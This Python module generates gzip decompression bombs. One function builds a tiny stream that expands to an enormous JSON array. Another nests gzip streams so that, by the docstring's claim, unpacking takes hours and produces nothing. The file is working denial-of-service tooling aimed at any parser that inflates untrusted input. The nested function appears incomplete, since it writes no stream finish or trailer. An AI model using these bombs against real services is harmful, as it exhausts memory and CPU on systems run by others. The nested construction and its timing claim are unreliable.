"""gzip_bomb.py: small gzip streams that unpack to very much, made without unpacking them."""
import struct
import zlib

BLOCK = b" " * (1024 * 1024)
HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def make_bomb(size):
    """A valid JSON array: a bracket, `size` - 2 spaces, a bracket."""
    # After a full flush the compressor forgets what came before, so one block can be repeated.
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(b"[") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(max(size - 2, 0), len(BLOCK))
    end = packer.compress(BLOCK[:rest] + b"]") + packer.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(b"[")
    for _ in range(blocks):
        checksum = zlib.crc32(BLOCK, checksum)
    checksum = zlib.crc32(BLOCK[:rest] + b"]", checksum)
    length = 2 + blocks * len(BLOCK) + rest
    return b"".join((HEADER, start, block * blocks, end, struct.pack("<II", checksum, length & 0xFFFFFFFF)))


def make_nested_bomb(levels):
    """Gzip in gzip: the innermost holds empty blocks only, so that whoever unpacks all of them gets no byte
    out of it.  Each level has about 500 times the one below: 5 KB in 4 levels take hours."""
    head, piece = HEADER, b"\x00\x00\x00\xff\xff" * (len(BLOCK) // 5)
    for _ in range(levels - 1):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = HEADER + packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
        piece = packer.compress(piece * max(1, len(BLOCK) // len(piece))) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + piece
